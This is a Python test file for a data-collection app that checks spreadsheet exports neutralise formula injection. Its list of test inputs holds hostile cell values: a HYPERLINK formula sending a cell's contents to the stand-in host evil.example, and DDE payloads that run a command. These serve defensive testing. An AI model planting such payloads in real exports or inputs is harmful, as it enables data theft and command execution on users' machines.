"""Formula injection: a value such as `=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)` or `-2+3` is text in anything exported.

The app writes no CSV or XLSX today (receipts are PDF, batches JSON, lists shown on screen), so the
defence is one function, `domain.text.spreadsheet_cell`, and a guard: any module of the app or the
server that writes CSV or XLSX must pass its cells through it. The guard fails the day a writer is
added without it; the property tests check the function itself.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import tally
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from collector_app.domain.text import FORMULA_STARTS, spreadsheet_cell

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ("collector_app", "provincial_server")
# What writes a spreadsheet: the csv module's writers, openpyxl's and xlsxwriter's workbooks, pandas.
WRITERS = {"DictWriter", "Workbook", "to_csv", "to_excel", "xlsxwriter", "writerow", "writerows"}
INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              "-2+3+cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


def _writers_in(path: Path) -> set[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = set()
    for node in ast.walk(tree):
        name = node.attr if isinstance(node, ast.Attribute) else node.id if isinstance(node, ast.Name) else None
        if name in WRITERS:
            found.add(name)
        if isinstance(node, ast.ImportFrom | ast.Import):
            found |= {alias.name for alias in node.names if alias.name in WRITERS or alias.name == "xlsxwriter"}
    return found


def test_every_module_that_writes_a_spreadsheet_neutralises_formulas():
    unguarded = []
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            writers = _writers_in(path)
            if writers and "spreadsheet_cell" not in path.read_text(encoding="utf-8"):
                unguarded.append(f"{path.relative_to(ROOT)}: {sorted(writers)}")
    assert unguarded == []


def test_the_guard_finds_a_writer_that_does_not_neutralise(tmp_path):
    # The guard must be able to fail: a module like the one a careless export would add.
    module = tmp_path / "export.py"
    module.write_text("import csv\n\ndef export(rows, handle):\n    csv.writer(handle).writerows(rows)\n",
                      encoding="utf-8")
    assert _writers_in(module) >= {"writerows"}


def test_each_formula_is_text_in_a_csv_and_an_xlsx_written_through_spreadsheet_cell():
    buffer = io.StringIO()
    csv.writer(buffer).writerows([[spreadsheet_cell(value)] for value in INJECTIONS])
    workbook = Workbook()
    for value in INJECTIONS:
        workbook.active.append([spreadsheet_cell(value)])
    saved = io.BytesIO()
    workbook.save(saved)

    cells = [row[0] for row in csv.reader(io.StringIO(buffer.getvalue()))]
    sheet = load_workbook(io.BytesIO(saved.getvalue())).active
    assert all(cell[:1] not in FORMULA_STARTS for cell in cells)
    assert all(row[0].data_type == "s" and row[0].value[:1] not in FORMULA_STARTS for row in sheet.iter_rows())
    assert [cell[1:] for cell in cells] == INJECTIONS  # the text itself kept whole
    tally.bad_input("export:formula", len(INJECTIONS))


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text())
def test_spreadsheet_cell_never_starts_with_a_formula_sign_and_changes_nothing_else(text):
    cell = spreadsheet_cell(text)

    assert cell[:1] not in FORMULA_STARTS
    assert cell == text or cell == "'" + text
    assert (cell == text) == (text[:1] not in FORMULA_STARTS)
